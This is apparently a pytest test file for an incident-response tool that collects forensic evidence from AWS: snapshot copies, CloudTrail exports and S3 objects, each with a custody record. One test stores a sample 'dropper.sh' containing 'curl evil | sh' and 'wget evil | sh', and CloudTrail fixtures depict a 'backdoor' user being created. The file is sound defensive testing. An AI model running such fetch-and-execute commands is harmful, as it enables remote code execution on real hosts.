"""The collection actions: snapshots copied into the security account, CloudTrail exported
as JSON lines, S3 objects copied into the evidence store; each recorded once, with custody.

moto plays both accounts where it can. It cannot copy a snapshot across accounts nor
answer LookupEvents: there botocore's Stubber answers with AWS's real shapes (see each
test's docstring)."""

from __future__ import annotations

import hashlib
import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from rest_framework import serializers

from evidence import actions
from evidence.choices import CustodyAction, EvidenceKind, StoreKind
from evidence.models import EvidenceItem
from evidence.tests.test_s3_store import BUCKET, SECURITY_ACCOUNT

# Fixtures shared with the S3 store's and the engine's tests.
from evidence.tests.test_s3_store import bucket as bucket
from evidence.tests.test_s3_store import security_account as security_account
from playbooks import aws
from playbooks import services as engine_services
from playbooks.actions import Outcome, get
from playbooks.aws import AwsContext, client, forget_sessions, session_for
from playbooks.choices import ActionState, Environment
from playbooks.models import ActionRun, CloudAccount
from playbooks.tests.conftest import ACCOUNT_ID, REGION
from playbooks.tests.conftest import engine as engine
from playbooks.tests.conftest import lead_actor as lead_actor

pytestmark = pytest.mark.django_db

ANY_AMI = "ami-0123456789abcdef0"
SOURCE_BUCKET = "acme-access-logs"


@pytest.fixture
def workload(security_account: CloudAccount) -> CloudAccount:
    """The account evidence is collected from, registered with its response role."""
    return CloudAccount.objects.create(
        account_id=ACCOUNT_ID,
        name="Workload",
        environment=Environment.PRODUCTION,
        regions=[REGION],
        role_arn=f"arn:aws:iam::{ACCOUNT_ID}:role/ir-portal-responder",
    )


@pytest.fixture
def single_account(aws: str) -> CloudAccount:
    """One account as both workload and security account (what moto can copy within)."""
    forget_sessions()
    return CloudAccount.objects.create(
        account_id=ACCOUNT_ID,
        name="Everything",
        environment=Environment.PRODUCTION,
        regions=[REGION],
        role_arn=f"arn:aws:iam::{ACCOUNT_ID}:role/ir-portal-responder",
        is_security_account=True,
    )


@pytest.fixture
def workload_only(aws: str) -> CloudAccount:
    """A workload account, and no security account registered."""
    forget_sessions()
    return CloudAccount.objects.create(
        account_id=ACCOUNT_ID,
        name="Workload",
        environment=Environment.PRODUCTION,
        role_arn=f"arn:aws:iam::{ACCOUNT_ID}:role/ir-portal-responder",
    )


def ask(engine: Any, actor: Any, incident: Any, action: str, **inputs: Any) -> ActionRun:
    """Request the action through the engine, let it run, and return its action run."""
    with engine():
        run, _ = engine_services.request_action(
            actor, incident, action, {"account_id": ACCOUNT_ID, "region": REGION, **inputs}
        )
    run.refresh_from_db()
    return run


def queued(actor: Any, incident: Any, action: str, **inputs: Any) -> ActionRun:
    """An action run asked for but not run: for calling the action directly as it."""
    run, _ = engine_services.request_action(
        actor, incident, action, {"account_id": ACCOUNT_ID, "region": REGION, **inputs}
    )
    return run


def context_of(account: CloudAccount, run: ActionRun) -> AwsContext:
    return AwsContext(
        session_for(account, "tests"),
        REGION,
        incident_reference=run.incident.reference,
        action_run_id=run.pk,
    )


def apply(ctx: AwsContext, action: str, **inputs: Any) -> Outcome:
    chosen = get(action)
    cleaned = chosen.validate({"account_id": ACCOUNT_ID, "region": REGION, **inputs})
    return chosen.apply(ctx, cleaned, chosen.inspect(ctx, cleaned))


def items_of(run: ActionRun) -> list[EvidenceItem]:
    return list(EvidenceItem.objects.filter(action_run=run).order_by("pk"))


def test_inputs_name_one_thing_to_collect():
    with pytest.raises(serializers.ValidationError):
        get("evidence_copy_snapshots").validate({"account_id": ACCOUNT_ID, "region": REGION})
    with pytest.raises(serializers.ValidationError):
        get("evidence_copy_s3_objects").validate(
            {"account_id": ACCOUNT_ID, "region": REGION, "bucket": "b", "keys": ["a"], "prefix": ""}
        )
    with pytest.raises(serializers.ValidationError, match="ends after it starts"):
        get("evidence_export_cloudtrail").validate(
            {
                "account_id": ACCOUNT_ID,
                "region": REGION,
                "principal": "alice",
                "start": "2026-03-02T00:00:00Z",
                "end": "2026-03-01T00:00:00Z",
            }
        )


# ---------------------------------------------------------------------------------------
# EBS snapshots


def ec2() -> Any:
    return client("ec2", REGION)


def instance_with_volumes() -> str:
    launched = ec2().run_instances(
        ImageId=ANY_AMI,
        MinCount=1,
        MaxCount=1,
        BlockDeviceMappings=[
            {"DeviceName": "/dev/sdf", "Ebs": {"VolumeSize": 8}},
            {"DeviceName": "/dev/sdg", "Ebs": {"VolumeSize": 4}},
        ],
    )
    return str(launched["Instances"][0]["InstanceId"])


def copies_of(incident: Any) -> dict[str, dict[str, str]]:
    """Copies IR Portal made for `incident`, by id, with their tags."""
    found = ec2().describe_snapshots(
        OwnerIds=["self"],
        Filters=[{"Name": "tag-key", "Values": [actions.SOURCE_SNAPSHOT_TAG]}],
    )["Snapshots"]
    return {
        s["SnapshotId"]: {t["Key"]: t["Value"] for t in s["Tags"]}
        for s in found
        if any(t["Value"] == incident.reference for t in s["Tags"])
    }


def test_snapshots_are_copied_once_encrypted_and_recorded_with_custody(
    single_account, settings, incident, lead_actor, engine
):
    """With one account in both roles, moto plays the whole path: find the incident's
    snapshots of the instance, copy each with the evidence key, record each copy."""
    settings.EVIDENCE_KMS_KEY_ID = "arn:aws:kms:eu-west-1:123456789012:key/evidence"
    instance_id = instance_with_volumes()
    taken = ask(engine, lead_actor, incident, "ec2_snapshot_volumes", instance_id=instance_id)
    sources = taken.outputs["snapshots"]  # by volume

    run = ask(engine, lead_actor, incident, "evidence_copy_snapshots", instance_id=instance_id)

    assert run.state == ActionState.SUCCEEDED and run.changed is True
    copies = run.outputs["copies"]
    assert set(copies) == set(sources.values()) and len(copies) == 2
    made = copies_of(incident)
    assert set(made) == set(copies.values())
    for copy_id, tags in made.items():
        assert copies[tags[actions.SOURCE_SNAPSHOT_TAG]] == copy_id
        assert tags["ir-portal:action-run"] == str(run.pk)
        assert tags["ir-portal:instance"] == instance_id
    described = ec2().describe_snapshots(SnapshotIds=list(made))["Snapshots"]
    assert {s["KmsKeyId"] for s in described} == {settings.EVIDENCE_KMS_KEY_ID}

    items = items_of(run)
    assert run.outputs["evidence"] == [item.pk for item in items]
    for item in items:
        source = item.metadata["source_snapshot_id"]
        assert (item.kind, item.store) == (EvidenceKind.DISK_SNAPSHOT, StoreKind.EBS_SNAPSHOT)
        assert (item.snapshot_id, item.account_id, item.region) == (
            copies[source],
            ACCOUNT_ID,
            REGION,
        )
        assert item.acquired_by == "lena" and item.action_run_id == run.pk
        acquired, copied = item.custody.all()
        assert (acquired.action, copied.action) == (CustodyAction.ACQUIRED, CustodyAction.COPIED)
        for event in (acquired, copied):
            assert event.from_location == f"ebs:{ACCOUNT_ID}/{REGION}/{source}"
            assert event.to_location == f"ebs:{ACCOUNT_ID}/{REGION}/{copies[source]}"

    # Asked again, by snapshot id this time: nothing is copied or recorded twice.
    again = ask(
        engine, lead_actor, incident, "evidence_copy_snapshots", snapshot_ids=sorted(copies)
    )
    assert again.state == ActionState.SUCCEEDED and again.changed is False
    assert again.outputs["copies"] == copies
    assert again.outputs["evidence"] == run.outputs["evidence"]
    assert len(copies_of(incident)) == 2
    assert EvidenceItem.objects.filter(incident=incident).count() == 2


def test_a_retry_after_a_lost_commit_copies_nothing_twice(
    single_account, incident, lead_actor, engine
):
    instance_id = instance_with_volumes()
    ask(engine, lead_actor, incident, "ec2_snapshot_volumes", instance_id=instance_id)
    run = ask(engine, lead_actor, incident, "evidence_copy_snapshots", instance_id=instance_id)

    # The worker's commit was lost: the next attempt of the same run finds its copies.
    retried = apply(
        context_of(single_account, run), "evidence_copy_snapshots", instance_id=instance_id
    )

    assert retried.outputs == {
        "evidence": run.outputs["evidence"],
        "copies": run.outputs["copies"],
    }
    assert retried.changed is False
    assert len(copies_of(incident)) == 2
    assert EvidenceItem.objects.filter(incident=incident).count() == 2


def test_an_instance_without_snapshots_of_the_incident_copies_nothing(
    single_account, incident, lead_actor, engine
):
    instance_id = instance_with_volumes()

    run = ask(engine, lead_actor, incident, "evidence_copy_snapshots", instance_id=instance_id)

    assert run.state == ActionState.SUCCEEDED and run.changed is False
    assert "No snapshot" in run.outputs["summary"]
    assert not EvidenceItem.objects.exists()


def test_a_cross_account_copy_shares_the_source_then_copies_it_in_the_security_account(
    workload, security_account, settings, incident, lead_actor, monkeypatch
):
    """moto 5.2.5 looks for a copy's source in the copying account, so it cannot copy from
    another account: the workload side (the snapshot, its sharing) is moto; the security
    account's side answers through Stubber with CopySnapshot's real request and answer."""
    settings.EVIDENCE_KMS_KEY_ID = "alias/ir-portal-evidence"
    volume = ec2().create_volume(AvailabilityZone=f"{REGION}a", Size=8)["VolumeId"]
    source = ec2().create_snapshot(VolumeId=volume)["SnapshotId"]
    run = queued(lead_actor, incident, "evidence_copy_snapshots", snapshot_ids=[source])
    ctx = context_of(workload, run)
    copying = actions.security_context(ctx, security_account)
    copy_id = "snap-0abc1234def567890"
    copy_tags = {
        "ir-portal:incident": incident.reference,
        "ir-portal:action-run": str(run.pk),
        actions.SOURCE_SNAPSHOT_TAG: source,
        actions.SOURCE_ACCOUNT_TAG: ACCOUNT_ID,
        "ir-portal:volume": volume,
    }
    look_for_copies = {
        "OwnerIds": ["self"],
        "Filters": [
            {"Name": f"tag:{actions.SOURCE_SNAPSHOT_TAG}", "Values": [source]},
            {"Name": "tag:ir-portal:incident", "Values": [incident.reference]},
        ],
    }
    monkeypatch.setattr(actions, "security_context", lambda ctx, account: copying)

    with Stubber(copying("ec2")) as security_ec2:
        security_ec2.add_response("describe_snapshots", {"Snapshots": []}, look_for_copies)
        security_ec2.add_response(
            "copy_snapshot",
            {"SnapshotId": copy_id, "Tags": [{"Key": k, "Value": v} for k, v in copy_tags.items()]},
            {
                "SourceSnapshotId": source,
                "SourceRegion": REGION,
                "Description": f"IR Portal {incident.reference}: evidence copy of {source} "
                f"from {ACCOUNT_ID}",
                "TagSpecifications": [
                    {
                        "ResourceType": "snapshot",
                        "Tags": [{"Key": k, "Value": v} for k, v in sorted(copy_tags.items())],
                    }
                ],
                "Encrypted": True,
                "KmsKeyId": "alias/ir-portal-evidence",
            },
        )
        outcome = apply(ctx, "evidence_copy_snapshots", snapshot_ids=[source])
        security_ec2.assert_no_pending_responses()

    shared = ec2().describe_snapshot_attribute(
        SnapshotId=source, Attribute="createVolumePermission"
    )["CreateVolumePermissions"]
    assert shared == [{"UserId": SECURITY_ACCOUNT}]
    assert outcome.changed and outcome.outputs["copies"] == {source: copy_id}
    (item,) = items_of(run)
    assert (item.snapshot_id, item.account_id) == (copy_id, SECURITY_ACCOUNT)
    assert {event.from_location for event in item.custody.all()} == {
        f"ebs:{ACCOUNT_ID}/{REGION}/{source}"
    }

    # The next attempt finds the copy by its tags: no second share, copy or item.
    with Stubber(copying("ec2")) as security_ec2:
        found = {
            "SnapshotId": copy_id,
            "Tags": [{"Key": k, "Value": v} for k, v in copy_tags.items()],
        }
        security_ec2.add_response("describe_snapshots", {"Snapshots": [found]}, look_for_copies)
        again = apply(ctx, "evidence_copy_snapshots", snapshot_ids=[source])
        security_ec2.assert_no_pending_responses()
    assert again.changed is False and again.outputs["evidence"] == [item.pk]
    assert EvidenceItem.objects.count() == 1


def test_without_a_security_account_nothing_is_copied(workload_only, incident, lead_actor, engine):
    run = ask(
        engine, lead_actor, incident, "evidence_copy_snapshots", instance_id="i-0123456789abcdef0"
    )

    assert (run.state, run.error_code) == (ActionState.FAILED, "LookupError")
    assert "no security account" in run.error_message


def test_a_source_still_pending_after_the_wait_fails_with_its_progress(monkeypatch):
    """moto's snapshots complete at once; a real one takes minutes, so Stubber plays it."""
    monkeypatch.setattr(actions, "SNAPSHOT_WAIT_DELAY", 0)
    monkeypatch.setattr(actions, "SNAPSHOT_WAIT_ATTEMPTS", 2)
    session = boto3.session.Session(aws_access_key_id="x", aws_secret_access_key="x")
    ctx = AwsContext(session, REGION, incident_reference="IR-2026-0001", action_run_id=1)
    pending = {
        "Snapshots": [
            {"SnapshotId": "snap-0123456789abcdef0", "State": "pending", "Progress": "40%"}
        ]
    }
    source = {"id": "snap-0123456789abcdef0", "state": "pending"}

    with Stubber(ctx("ec2")) as workload_ec2:
        for _ in range(2):
            workload_ec2.add_response(
                "describe_snapshots", pending, {"SnapshotIds": ["snap-0123456789abcdef0"]}
            )
        with pytest.raises(ValueError, match=r"still pending \(40%\); ask again"):
            actions._await_completed(ctx, source)


# ---------------------------------------------------------------------------------------
# CloudTrail

START = datetime(2026, 3, 1, tzinfo=UTC)
END = datetime(2026, 3, 2, tzinfo=UTC)


def cloudtrail_event(minutes: int, name: str) -> dict[str, Any]:
    """One element of LookupEvents' `Events`, as AWS returns it."""
    when = START + timedelta(minutes=minutes)
    event_id = str(uuid.uuid4())
    record = {
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": "AIDAEXAMPLEALICE",
            "arn": f"arn:aws:iam::{ACCOUNT_ID}:user/alice",
            "accountId": ACCOUNT_ID,
            "accessKeyId": "AKIAEXAMPLEALICE0001",
            "userName": "alice",
        },
        "eventTime": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "eventSource": "iam.amazonaws.com",
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.7",
        "userAgent": "aws-cli/2.15.30",
        "requestParameters": {"userName": "backdoor"},
        "responseElements": None,
        "requestID": str(uuid.uuid4()),
        "eventID": event_id,
        "readOnly": False,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": ACCOUNT_ID,
        "eventCategory": "Management",
    }
    return {
        "EventId": event_id,
        "EventName": name,
        "ReadOnly": "false",
        "AccessKeyId": "AKIAEXAMPLEALICE0001",
        "EventTime": when,
        "EventSource": "iam.amazonaws.com",
        "Username": "alice",
        "Resources": [{"ResourceType": "AWS::IAM::User", "ResourceName": "backdoor"}],
        "CloudTrailEvent": json.dumps(record),
    }


PAGES = [
    [cloudtrail_event(30, "CreateAccessKey"), cloudtrail_event(20, "CreateUser")],
    [cloudtrail_event(10, "ListUsers")],
]


def lookups(pages: list[list[dict[str, Any]]]) -> list[tuple[dict[str, Any], dict[str, Any]]]:
    """(answer, expected request) for each page: `pages` chained by NextToken."""
    request = {
        "LookupAttributes": [{"AttributeKey": "Username", "AttributeValue": "alice"}],
        "StartTime": START,
        "EndTime": END,
    }
    chained = []
    for number, events in enumerate(pages):
        answer: dict[str, Any] = {"Events": events}
        if number + 1 < len(pages):
            answer["NextToken"] = f"page-{number + 1}"
        asked = {**request, "NextToken": f"page-{number}"} if number else request
        chained.append((answer, asked))
    return chained


@pytest.mark.parametrize(
    ("asked", "attribute"),
    [
        ({"principal": "alice"}, ("Username", "alice")),
        ({"principal": f"arn:aws:iam::{ACCOUNT_ID}:user/ops/alice"}, ("Username", "alice")),
        (
            {"principal": f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/deploy/i-0abc"},
            ("Username", "i-0abc"),
        ),
        ({"principal": "ASIAEXAMPLE000000001"}, ("AccessKeyId", "ASIAEXAMPLE000000001")),
        ({"resource": "arn:aws:s3:::acme-logs"}, ("ResourceName", "arn:aws:s3:::acme-logs")),
    ],
)
def test_the_lookup_attribute_follows_what_cloudtrail_records(asked, attribute):
    found = actions.lookup_attribute(asked)
    assert (found["AttributeKey"], found["AttributeValue"]) == attribute


@pytest.fixture
def cloudtrail(monkeypatch: pytest.MonkeyPatch) -> Iterator[Stubber]:
    """LookupEvents, which moto 5.2.5 does not implement, answered by Stubber: every
    CloudTrail client the actions make (through the engine too) is this stubbed one."""
    stubbed = boto3.session.Session(aws_access_key_id="x", aws_secret_access_key="x").client(
        "cloudtrail", region_name=REGION
    )
    made_otherwise = aws.session_client

    def session_client(session: Any, service: str, region: str | None) -> Any:
        return stubbed if service == "cloudtrail" else made_otherwise(session, service, region)

    monkeypatch.setattr(aws, "session_client", session_client)
    with Stubber(stubbed) as stub:
        yield stub


def export_inputs(**extra: Any) -> dict[str, Any]:
    return {
        "principal": f"arn:aws:iam::{ACCOUNT_ID}:user/alice",
        "start": START.isoformat(),
        "end": END.isoformat(),
        **extra,
    }


def stored_bytes(s3: Any, item: EvidenceItem) -> bytes:
    return bytes(
        s3.get_object(Bucket=item.bucket, Key=item.key, VersionId=item.version_id)["Body"].read()
    )


def test_cloudtrail_events_are_exported_as_json_lines_with_a_manifest(
    workload, bucket, cloudtrail, incident, lead_actor, engine
):
    for answer, asked in lookups(PAGES):
        cloudtrail.add_response("lookup_events", answer, asked)

    run = ask(engine, lead_actor, incident, "evidence_export_cloudtrail", **export_inputs())

    assert run.state == ActionState.SUCCEEDED, run.error_message
    cloudtrail.assert_no_pending_responses()
    events, manifest = items_of(run)
    assert run.outputs["evidence"] == [events.pk, manifest.pk]
    assert run.outputs["count"] == 3 and run.outputs["complete"] is True

    lines = stored_bytes(bucket, events)
    assert hashlib.sha256(lines).hexdigest() == events.sha256 == run.outputs["sha256"]
    written = [json.loads(line) for line in lines.splitlines()]
    sent = [json.loads(e["CloudTrailEvent"]) for page in PAGES for e in page]
    assert written == sent
    assert (events.kind, events.store, events.bucket) == (EvidenceKind.LOG_EXPORT, "s3", BUCKET)
    assert events.source == f"cloudtrail:{ACCOUNT_ID}/{REGION}?Username=alice"

    document = json.loads(stored_bytes(bucket, manifest))
    assert hashlib.sha256(stored_bytes(bucket, manifest)).hexdigest() == manifest.sha256
    assert document["events"] == {
        "evidence_item": events.pk,
        "location": events.location,
        "size": len(lines),
        "sha256": events.sha256,
    }
    assert document["count"] == 3 and document["complete"] is True
    assert document["window"] == {"start": START.isoformat(), "end": END.isoformat()}
    assert document["query"]["lookup_attributes"] == [
        {"AttributeKey": "Username", "AttributeValue": "alice"}
    ]
    assert document["newest_event_time"] == PAGES[0][0]["EventTime"].isoformat()
    assert document["oldest_event_time"] == PAGES[1][0]["EventTime"].isoformat()

    for item in (events, manifest):
        head = bucket.head_object(Bucket=BUCKET, Key=item.key, VersionId=item.version_id)
        # To the microsecond: the lock was moved on to the item's own date.
        assert head["ObjectLockRetainUntilDate"] == item.retain_until
        tags = bucket.get_object_tagging(Bucket=BUCKET, Key=item.key, VersionId=item.version_id)
        assert {"Key": "ir-portal:item", "Value": str(item.pk)} in tags["TagSet"]
        (acquired,) = item.custody.all()
        assert acquired.action == CustodyAction.ACQUIRED and acquired.sha256 == item.sha256
        assert acquired.to_location == item.location
        assert acquired.details["action_run"] == run.pk


def test_an_export_stops_at_max_events_and_says_where(
    workload, bucket, cloudtrail, incident, lead_actor
):
    (first_page, asked), _ = lookups(PAGES)
    cloudtrail.add_response("lookup_events", first_page, asked)
    run = queued(lead_actor, incident, "evidence_export_cloudtrail", **export_inputs(max_events=1))

    outcome = apply(
        context_of(workload, run), "evidence_export_cloudtrail", **export_inputs(max_events=1)
    )

    assert outcome.outputs["count"] == 1 and outcome.outputs["complete"] is False
    assert "stopped at 1" in outcome.summary
    events, _ = items_of(run)
    assert len(stored_bytes(bucket, events).splitlines()) == 1
    assert events.metadata["summary"]["oldest_event_time"] == PAGES[0][0]["EventTime"].isoformat()


def test_a_retry_with_the_events_recorded_writes_only_the_manifest(
    workload, bucket, cloudtrail, incident, lead_actor
):
    for answer, asked in lookups(PAGES):
        cloudtrail.add_response("lookup_events", answer, asked)
    run = queued(lead_actor, incident, "evidence_export_cloudtrail", **export_inputs())
    ctx = context_of(workload, run)
    cleaned = get("evidence_export_cloudtrail").validate(
        {"account_id": ACCOUNT_ID, "region": REGION, **export_inputs()}
    )
    # The first attempt recorded the events, then its worker died.
    events = actions._export_events(
        ctx, actions.action_run_of(ctx), actions.default_store(), cleaned
    )

    # No LookupEvents answer is left: another lookup would fail the retry.
    retried = apply(ctx, "evidence_export_cloudtrail", **export_inputs())
    again = apply(ctx, "evidence_export_cloudtrail", **export_inputs())

    assert retried.outputs["evidence"][0] == events.pk
    assert again.outputs["evidence"] == retried.outputs["evidence"]
    assert [i.metadata["part"] for i in items_of(run)] == ["events", "manifest"]


def test_a_refused_lookup_fails_the_run_with_its_code_and_leaves_nothing(
    workload, bucket, cloudtrail, incident, lead_actor, engine
):
    cloudtrail.add_client_error(
        "lookup_events",
        service_error_code="AccessDeniedException",
        service_message="User is not authorized to perform: cloudtrail:LookupEvents",
        http_status_code=400,
    )

    run = ask(engine, lead_actor, incident, "evidence_export_cloudtrail", **export_inputs())

    assert (run.state, run.error_code) == (ActionState.FAILED, "AccessDeniedException")
    assert not EvidenceItem.objects.exists()
    assert bucket.list_object_versions(Bucket=BUCKET).get("Versions") is None
    assert bucket.list_multipart_uploads(Bucket=BUCKET).get("Uploads") is None


# ---------------------------------------------------------------------------------------
# S3 objects


def source_s3() -> Any:
    return client("s3", REGION)


@pytest.fixture
def logs(workload: CloudAccount) -> dict[str, bytes]:
    """A versioned bucket of access logs in the workload account."""
    s3 = source_s3()
    s3.create_bucket(Bucket=SOURCE_BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_bucket_versioning(Bucket=SOURCE_BUCKET, VersioningConfiguration={"Status": "Enabled"})
    written = {
        "2026/03/01/access-0001.log": b"203.0.113.7 GET /admin 200\n" * 200,
        "2026/03/01/access-0002.log": b"203.0.113.7 POST /login 302\n" * 300,
        "2026/03/02/access-0003.log": b"198.51.100.2 GET / 200\n",
    }
    for key, body in written.items():
        s3.put_object(Bucket=SOURCE_BUCKET, Key=key, Body=body)
    return written


def version_of(key: str) -> str:
    return str(source_s3().head_object(Bucket=SOURCE_BUCKET, Key=key)["VersionId"])


def test_named_objects_are_streamed_into_the_store_hashed_and_recorded(
    logs, bucket, incident, lead_actor, engine
):
    keys = ["2026/03/01/access-0001.log", "2026/03/01/access-0002.log"]

    run = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket=SOURCE_BUCKET,
        keys=keys,
        kind="log_export",
    )

    assert run.state == ActionState.SUCCEEDED and run.changed is True, run.error_message
    items = items_of(run)
    assert run.outputs == {
        "evidence": [i.pk for i in items],
        "copied": keys,
        "summary": run.outputs["summary"],
    }
    for key, item in zip(keys, items, strict=True):
        source = f"s3://{SOURCE_BUCKET}/{key}?versionId={version_of(key)}"
        assert (item.kind, item.store, item.source) == (EvidenceKind.LOG_EXPORT, "s3", source)
        assert item.sha256 == hashlib.sha256(logs[key]).hexdigest()
        assert stored_bytes(bucket, item) == logs[key]
        assert (
            item.metadata["source_etag"]
            == source_s3().head_object(Bucket=SOURCE_BUCKET, Key=key)["ETag"]
        )
        acquired, copied = item.custody.all()
        for event, action in ((acquired, CustodyAction.ACQUIRED), (copied, CustodyAction.COPIED)):
            assert (event.action, event.from_location, event.to_location) == (
                action,
                source,
                item.location,
            )
            assert event.sha256 == item.sha256


def test_collecting_again_copies_only_what_is_new(logs, bucket, incident, lead_actor, engine):
    first = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket=SOURCE_BUCKET,
        keys=["2026/03/01/access-0001.log"],
    )

    # A prefix over the same object and a new one: only the new one is copied.
    second = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket=SOURCE_BUCKET,
        prefix="2026/03/01/",
    )
    assert second.changed is True and second.outputs["copied"] == ["2026/03/01/access-0002.log"]
    assert second.outputs["evidence"][0] == first.outputs["evidence"][0]
    assert "1 collected already" in second.outputs["summary"]

    # A new version of a collected object is another object; the same run retried is not.
    source_s3().put_object(Bucket=SOURCE_BUCKET, Key="2026/03/01/access-0001.log", Body=b"later")
    third = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket=SOURCE_BUCKET,
        prefix="2026/03/01/",
        max_objects=10,
    )
    assert third.outputs["copied"] == ["2026/03/01/access-0001.log"]
    retried = apply(
        context_of(CloudAccount.objects.get(account_id=ACCOUNT_ID), third),
        "evidence_copy_s3_objects",
        bucket=SOURCE_BUCKET,
        prefix="2026/03/01/",
        max_objects=10,
    )
    assert retried.changed is False and retried.outputs["evidence"] == third.outputs["evidence"]
    assert EvidenceItem.objects.filter(incident=incident).count() == 3
    assert len(bucket.list_object_versions(Bucket=BUCKET)["Versions"]) == 3


def test_an_unversioned_object_is_told_apart_by_its_etag(
    workload, bucket, incident, lead_actor, engine
):
    s3 = source_s3()
    s3.create_bucket(
        Bucket="acme-uploads", CreateBucketConfiguration={"LocationConstraint": REGION}
    )
    s3.put_object(Bucket="acme-uploads", Key="dropper.sh", Body=b"curl evil | sh\n")

    first = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket="acme-uploads",
        keys=["dropper.sh"],
    )
    s3.put_object(Bucket="acme-uploads", Key="dropper.sh", Body=b"wget evil | sh\n")
    second = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket="acme-uploads",
        prefix="drop",
    )

    (one,), (two,) = items_of(first), items_of(second)
    assert one.source == two.source == "s3://acme-uploads/dropper.sh"
    assert one.metadata["source_etag"] != two.metadata["source_etag"]
    assert stored_bytes(bucket, two) == b"wget evil | sh\n"


def test_objects_go_to_the_local_store_when_no_bucket_is_configured(
    security_account, settings, incident, lead_actor, engine
):
    # Without EVIDENCE_BUCKET (reset by the evidence conftest), evidence lands on disk.
    CloudAccount.objects.create(
        account_id=ACCOUNT_ID,
        name="Workload",
        environment=Environment.PRODUCTION,
        role_arn=f"arn:aws:iam::{ACCOUNT_ID}:role/ir-portal-responder",
    )
    s3 = source_s3()
    s3.create_bucket(
        Bucket="acme-uploads", CreateBucketConfiguration={"LocationConstraint": REGION}
    )
    s3.put_object(Bucket="acme-uploads", Key="notes.txt", Body=b"ransom note")

    run = ask(
        engine,
        lead_actor,
        incident,
        "evidence_copy_s3_objects",
        bucket="acme-uploads",
        keys=["notes.txt"],
    )

    (item,) = items_of(run)
    assert item.store == StoreKind.LOCAL
    assert (settings.EVIDENCE_LOCAL_DIR / item.key).read_bytes() == b"ransom note"


@pytest.mark.parametrize(
    ("inputs", "code"),
    [
        ({"bucket": "no-such-bucket", "prefix": "logs/"}, "NoSuchBucket"),
        ({"bucket": SOURCE_BUCKET, "keys": ["2026/03/09/missing.log"]}, "LookupError"),
        ({"bucket": SOURCE_BUCKET, "prefix": "2026/", "max_objects": 2}, "ValueError"),
    ],
)
def test_what_cannot_be_copied_fails_the_run_and_copies_nothing(
    logs, bucket, incident, lead_actor, engine, inputs, code
):
    run = ask(engine, lead_actor, incident, "evidence_copy_s3_objects", **inputs)

    assert (run.state, run.error_code) == (ActionState.FAILED, code)
    assert not EvidenceItem.objects.exists()
    assert bucket.list_object_versions(Bucket=BUCKET).get("Versions") is None
